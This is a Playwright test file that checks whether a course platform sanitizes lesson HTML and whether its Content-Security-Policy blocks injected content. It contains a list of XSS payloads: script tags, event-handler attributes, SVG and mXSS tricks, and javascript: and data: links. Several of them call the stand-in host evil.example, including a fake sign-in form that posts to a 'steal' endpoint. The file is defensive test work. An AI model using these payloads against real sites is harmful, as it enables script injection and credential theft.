import { enrol, newCourse } from '../support/courses.ts';
import { newMember, signIn, tokenOf } from '../support/people.ts';
import { test as base, expect } from '../support/test.ts';

// The policy refuses what these tricks try: that is what is tested, so its reports do not count here.
const test = base.extend({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names of what is needed
  watched: async ({}, use) => use({ violations: [], strangers: [] }),
});

const HOSTILE = `
<h2 id="content-x">Still a lesson</h2>
<script>window.hacked = 'script'</script>
<img src="/nothing.png" onerror="window.hacked = 'onerror'">
<svg onload="window.hacked = 'svg'"><script>window.hacked = 'svg script'</script><animate onbegin="window.hacked='smil'" attributeName="x" dur="1s"/></svg>
<style>body { display: none } header { background: url(https://evil.example/css) }</style>
<link rel="stylesheet" href="https://evil.example/style.css">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<p style="position:fixed;inset:0;z-index:99;background:red" id="cover">Covering everything</p>
<form action="https://evil.example/steal" method="post"><input name="code" autofocus><button>Sign in</button></form>
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>parent.hacked='srcdoc'</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<a href="javascript:window.hacked='link'" id="script-link">Click</a>
<a href="data:text/html,<script>alert(1)</script>" id="data-link">Click</a>
<a href="https://evil.example/" id="outside">Outside</a>
<a href="/catalogue" id="inside" ping="https://evil.example/ping">Inside</a>
<math><mtext><table><mglyph><style><img src=x onerror="window.hacked='mxss'"></style></mglyph></table></mtext></math>
<div id="content" data-x="1">clobbered</div>`;

test('a lesson that tries script, style, form, frame and link tricks does nothing', async ({ page }) => {
  const course = await newCourse(1);
  const member = await newMember();
  await enrol(await tokenOf(member.email), course);
  const asked: string[] = [];
  page.on('request', request => asked.push(request.url()));
  await page.route('**/v1/catalog/courses/*/lessons/*', async route => {
    const response = await route.fetch();
    await route.fulfill({ response, json: { ...(await response.json()), html: HOSTILE } });
  });
  await signIn(page, member.email, `/courses/${course.id}/lessons/${course.lessons[0]?.id}`);
  const article = page.getByRole('article');
  await expect(article.getByRole('heading', { name: 'Still a lesson' })).toBeVisible();
  await expect(
    article.locator('script, style, form, input, button, iframe, object, embed, link, meta, base'),
  ).toHaveCount(0);
  await expect(article.locator('[style], [onerror], [onload], [ping]')).toHaveCount(0);
  await expect(page.locator('header').first()).toBeVisible();
  for (const id of ['script-link', 'data-link']) {
    expect(await article.locator(`#${id}`).getAttribute('href')).toBeNull();
  }
  await expect(article.locator('#outside')).toHaveAttribute('rel', /noopener/);
  await article.locator('#inside').click();
  await expect(page).toHaveURL(/\/catalogue$/);
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(asked.filter(url => url.includes('evil'))).toEqual([]);
});

test('the policy itself refuses inline script, style, frames and other sites', async ({ page }) => {
  const response = await page.goto('/');
  const policy = response?.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("default-src 'none'");
  expect(policy).not.toContain('unsafe');
  const outcome = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.hacked = true';
    document.body.append(script);
    const elsewhere = await fetch('https://evil.example/').then(
      () => 'sent',
      () => 'refused',
    );
    return { hacked: 'hacked' in window, elsewhere };
  });
  expect(outcome).toEqual({ hacked: false, elsewhere: 'refused' });
});
